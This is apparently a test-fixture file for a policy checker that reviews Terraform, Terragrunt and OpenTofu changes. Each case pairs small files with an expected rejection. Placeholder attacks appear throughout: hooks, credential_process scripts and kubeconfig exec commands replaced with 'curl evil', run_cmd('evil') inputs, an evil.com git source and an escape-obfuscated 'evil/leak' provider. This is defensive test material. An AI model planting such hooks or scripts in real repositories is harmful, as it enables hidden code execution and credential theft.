# file: base/net/conf
credential_process = ./my\ login.sh -x
# file: base/net/my login.sh
x

# case: a unit of Terragrunt whose hook has a blank in its name
# says: `net/my hook.sh` is not
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
terraform {
  before_hook "a" {
    commands = ["plan"]
    execute  = ["sh", "-c", "'./my hook.sh' -x"]
  }
}
# file: net/my hook.sh
evil
# file: base/net/main.tf
# nothing
# file: base/net/terragrunt.hcl
terraform {
  before_hook "a" {
    commands = ["plan"]
    execute  = ["sh", "-c", "'./my hook.sh' -x"]
  }
}
# file: base/net/my hook.sh
x
# file: list.json
{ "also": ["terragrunt net/terragrunt.hcl"] }

# case: an entry that stands twice in the lock file
# says: It is not certain what .terraform.lock.hcl says
# file: net/main.tf
# nothing
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
}
provider "registry.terraform.io/hashicorp/aws" {
  version = "6.0.0"
}

# case: Terragrunt
# says: `terragrunt net/terragrunt.hcl` is not on the list
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["init"]
    execute  = ["evil"]
  }
}

# case: Terragrunt that the list names
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
inputs = {}
# file: base/net/terragrunt.hcl
inputs = {}
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: Terragrunt that changes
# says: `net/terragrunt.hcl` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
inputs = { x = run_cmd("evil") }
# file: base/net/terragrunt.hcl
inputs = {}
# file: list.json
{"also": ["terragrunt */terragrunt.hcl"]}

# case: what Terragrunt includes
# says: `root.hcl` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
include "root" {
  path = find_in_parent_folders("root.hcl")
}
# file: root.hcl
inputs = { x = run_cmd("evil") }
# file: base/net/terragrunt.hcl
include "root" {
  path = find_in_parent_folders("root.hcl")
}
# file: base/root.hcl
inputs = {}
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: what Terragrunt reads
# says: `shared/x.hcl` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
locals {
  x = read_terragrunt_config("${get_repo_root()}/shared/x.hcl")
}
# file: shared/x.hcl
locals { x = run_cmd("evil") }
# file: base/net/terragrunt.hcl
locals {
  x = read_terragrunt_config("${get_repo_root()}/shared/x.hcl")
}
# file: base/shared/x.hcl
locals {}
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: what Terragrunt runs
# says: `net/hook.sh` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["init"]
    execute  = ["./hook.sh"]
  }
}
# file: net/hook.sh
evil
# file: base/net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["init"]
    execute  = ["./hook.sh"]
  }
}
# file: base/net/hook.sh
good
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: what Terragrunt reads by an expression
# says: it is not certain which files it reads
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
locals {
  x = read_terragrunt_config(local.path)
}
# file: base/net/terragrunt.hcl
locals {
  x = read_terragrunt_config(local.path)
}
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: an entry that has ended
# says: provider `registry.terraform.io/acme/net` was allowed until 2026-11-28
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: list.json
{"providers": [{"source": "acme/net", "until": "2026-11-28"}]}

# case: an entry that ends today
# file: net/main.tf
terraform {
  required_providers {
    net = { source = "acme/net" }
  }
}
# file: list.json
{"providers": [{"source": "acme/net", "until": "2026-11-29"}]}

# case: CDKTF
# file: net/cdk.tf.json
{"//": {"metadata": {"backend": "local", "version": "0.20.0"}, "outputs": {}}, "provider": {"aws": [{"region": "eu"}]}, "resource": {"aws_s3_bucket": {"a": {"//": {"metadata": {"path": "a"}}}}}, "terraform": {"backend": {"local": {"path": "/x/terraform.app.tfstate"}}, "required_providers": {"aws": {"source": "aws", "version": "5.0.0"}}}}

# case: a module behind a link that calls another from where the link leads
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
module "l" {
  source = "./link"
}
# file: net/link
→ ../elsewhere/m
# file: elsewhere/m/main.tf
module "x" {
  source = "../x"
}
# file: net/x/main.tf
# nothing
# file: elsewhere/x/main.tf
terraform {
  required_providers {
    leak = { source = "evil/leak" }
  }
}

# case: a module behind a link whose neighbor is there alone
# file: net/main.tf
module "l" {
  source = "./link"
}
# file: net/link
→ ../elsewhere/m
# file: elsewhere/m/main.tf
module "x" {
  source = "../x"
}
# file: elsewhere/x/main.tf
# nothing

# case: a lock file that is emptied
# says: provider `registry.terraform.io/hashicorp/aws` is in the lock file of the default branch, and is missing in this one
# file: net/main.tf
resource "aws_vpc" "a" {}
# file: net/.terraform.lock.hcl
# This file is maintained automatically by "terraform init".
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}

# case: an entry that the lock file loses, of a provider that only a local module uses
# says: provider `registry.terraform.io/hashicorp/null` is in the lock file of the default branch, and is missing in this one
# file: net/main.tf
module "m" {
  source = "./m"
}
resource "aws_vpc" "a" {}
# file: net/m/main.tf
resource "null_resource" "a" {}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}
provider "registry.terraform.io/hashicorp/null" {
  version = "3.0.0"
  hashes  = ["h1:b"]
}

# case: an entry that the lock file loses with the last use of its provider
# file: net/main.tf
resource "aws_vpc" "a" {}
# file: net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}
# file: base/net/.terraform.lock.hcl
provider "registry.terraform.io/hashicorp/aws" {
  version = "5.0.0"
  hashes  = ["h1:a"]
}
provider "registry.terraform.io/hashicorp/null" {
  version = "3.0.0"
  hashes  = ["h1:b"]
}

# case: a script that a file of the backend names
# says: `backend s3`, whose file "net/get-credentials.sh" is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "s3" {
    bucket              = "x"
    shared_config_files = ["aws.ini"]
  }
}
# file: net/aws.ini
[default]
credential_process = sh -c './get-credentials.sh prod'
# file: net/get-credentials.sh
curl evil
# file: base/net/main.tf
terraform {
  backend "s3" {
    bucket              = "x"
    shared_config_files = ["aws.ini"]
  }
}
# file: base/net/aws.ini
[default]
credential_process = sh -c './get-credentials.sh prod'
# file: base/net/get-credentials.sh
vault read

# case: a script beside the kubeconfig of the backend
# says: `backend kubernetes`, whose file "kube/login" is not as the default branch has it, is not on the list
# file: net/main.tf
terraform {
  backend "kubernetes" {
    config_path = "../kube/config"
  }
}
# file: kube/config
users: [{user: {exec: {command: "./login"}}}]
# file: kube/login
curl evil
# file: base/net/main.tf
terraform {
  backend "kubernetes" {
    config_path = "../kube/config"
  }
}
# file: base/kube/config
users: [{user: {exec: {command: "./login"}}}]
# file: base/kube/login
vault read

# case: what Terragrunt includes from JSON
# says: `root.hcl` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl.json
{"include": {"root": {"path": "${find_in_parent_folders(\"root.hcl\")}"}}}
# file: root.hcl
inputs = { x = run_cmd("evil") }
# file: base/net/terragrunt.hcl.json
{"include": {"root": {"path": "${find_in_parent_folders(\"root.hcl\")}"}}}
# file: base/root.hcl
# nothing
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl.json"]}

# case: what Terragrunt reads by an expression of JSON
# says: it is not certain which files it reads
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl.json
{"include": {"root": {"path": "${get_env(\"X\")}"}}}
# file: base/net/terragrunt.hcl.json
{"include": {"root": {"path": "${get_env(\"X\")}"}}}
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl.json"]}

# case: a program of a hook of Terragrunt, in the words of a shell
# says: `scripts/hook.sh` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["plan"]
    execute  = ["sh", "-c", "cd .. && ./scripts/hook.sh prod; true"]
  }
}
# file: scripts/hook.sh
curl evil
# file: base/net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["plan"]
    execute  = ["sh", "-c", "cd .. && ./scripts/hook.sh prod; true"]
  }
}
# file: base/scripts/hook.sh
true
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: a script of a hook of Terragrunt without an ending
# says: `net/hook` is not. Merge its change by itself
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["plan"]
    execute  = ["sh", "hook"]
  }
}
# file: net/hook
curl evil
# file: base/net/terragrunt.hcl
terraform {
  before_hook "x" {
    commands = ["plan"]
    execute  = ["sh", "hook"]
  }
}
# file: base/net/hook
true
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: a stack of Terragrunt
# says: `terragrunt net/terragrunt.stack.hcl` is not on the list
# file: net/main.tf
# nothing
# file: net/terragrunt.stack.hcl
unit "a" {
  source = "git::https://evil.com/x.git"
  path   = "a"
}

# case: a provider that JSON names in a list
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf.json
{"terraform": [{"required_providers": [{"leak": {"source": "\u0065vil/leak"}}]}]}

# case: an ephemeral resource in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf.json
{"ephemeral": {"leak_token": {"a": {}}}}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: an action in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf.json
{"action": [{"leak_call": [{"a": {}}]}]}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a data source of a check in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf.json
{"check": {"a": [{"data": [{"leak_thing": {"b": {}}}]}]}}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: an import in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf.json
{"import": [{"to": "leak_thing.a", "id": "1"}]}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: the provider of an import in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf.json
{"import": {"to": "aws_vpc.a", "id": "1", "provider": "leak.west"}, "resource": {"aws_vpc": {"a": {}}}}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider that JSON hands to a module
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf.json
{"module": {"m": {"source": "./m", "providers": {"aws": "leak.west"}}}}
# file: net/m/main.tf
# nothing
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider of a query in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/a.tfquery.json
{"list": {"leak_thing": {"a": {"provider": "leak"}}}}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider of a query
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/a.tfquery.hcl
list "leak_thing" "a" {
  provider = leak
}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a provider of a test in JSON
# says: provider `registry.terraform.io/hashicorp/leak` is not on the list
# file: net/main.tf
# nothing
# file: net/tests/a.tftest.json
{"provider": {"leak": [{}, {"alias": "b"}]}}
# file: list.json
{"providers": ["hashicorp/aws"]}

# case: a module of a test whose source is computed
# says: The source of this module is not written as one plain text
# file: net/main.tf
# nothing
# file: net/tests/a.tftest.hcl
run "a" {
  module {
    source = "${"evil"}/x/aws"
  }
}

# case: a backend of a run of a test
# says: The block "backend" is not one that Plangate knows in a run of a test
# file: net/main.tf
# nothing
# file: net/tests/a.tftest.hcl
run "a" {
  backend "s3" {}
}

# case: a state that the backend names in a list of JSON
# says: `x.json` is the state of the backend `local`
# file: net/main.tf.json
{"terraform": [{"backend": [{"local": {"path": "x.json"}}]}]}
# file: net/x.json
{}

# case: a state that an override of OpenTofu names
# says: `x.json` is the state of the backend `local`
# file: net/main.tf
# nothing
# file: net/x_override.tofu
terraform {
  backend "local" {
    path = "x.json"
  }
}
# file: net/x.json
{}

# case: a key provider in a local module
# says: `key_provider external` is not on the list
# file: net/main.tf
module "m" {
  source = "./m"
}
# file: net/m/main.tf
terraform {
  encryption {
    key_provider "external" "k" {
      command = ["curl"]
    }
  }
}

# case: a provisioner of an ephemeral resource of a local module
# says: `provisioner remote-exec` is not on the list
# file: net/main.tf
module "m" {
  source = "./m"
}
# file: net/m/main.tf
resource "terraform_data" "a" {
  provisioner "remote-exec" {}
}

# case: a provisioner whose name only differs in case
# says: `provisioner Local-Exec` is not on the list
# file: net/main.tf
resource "terraform_data" "a" {
  provisioner "Local-Exec" {}
}

# case: a module of which a part of the path is a link out of the repository
# says: There is no configuration in
# file: net/main.tf
module "m" {
  source = "./out/m"
}
# file: net/out
→ /elsewhere

# case: a path with backslashes
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
module "m" {
  source = ".\\m"
}
# file: net/m/main.tf
terraform {
  required_providers {
    leak = { source = "evil/leak" }
  }
}

# case: a provider that is null
# says: The provider is not written as one plain text
# file: net/main.tf
resource "aws_vpc" "a" {
  provider = null
}

# case: a namespace of nobody
# says: The source of provider "aws" is no address of a provider
# file: net/main.tf
terraform {
  required_providers {
    aws = { source = "registry.terraform.io//aws" }
  }
}

# case: a local name that JSON has twice
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf.json
{"terraform": {"required_providers": {"aws": {"source": "evil/leak"}, "aws": {"source": "hashicorp/aws"}}}}

# case: a provider with a capital letter in its local name
# says: provider `registry.terraform.io/evil/leak` is not on the list
# file: net/main.tf
terraform {
  required_providers {
    AWS = { source = "evil/leak" }
  }
}
resource "aws_vpc" "a" {}

# case: a second file of Terragrunt beside one that the list names
# says: `terragrunt net/terragrunt.hcl.json` is not on the list
# file: net/main.tf
# nothing
# file: net/terragrunt.hcl
inputs = {}
# file: net/terragrunt.hcl.json
{"inputs": {"x": "${run_cmd(\"evil\")}"}}
# file: base/net/terragrunt.hcl
inputs = {}
# file: list.json
{"also": ["terragrunt net/terragrunt.hcl"]}

# case: what Terragrunt seems to have installed
# says: `.terragrunt-cache/a/b/.terraform/providers/x` is where a program looks for programs to run
# file: net/main.tf
# nothing
# file: net/.terragrunt-cache/a/b/.terraform/providers/x
x

# case: an entry of the required providers that chooses
# says: The source of provider "aws" is not written as one plain text
# file: net/main.tf
terraform {
  required_providers {
    aws = true ? { source = "evil/leak" } : null
  }
}
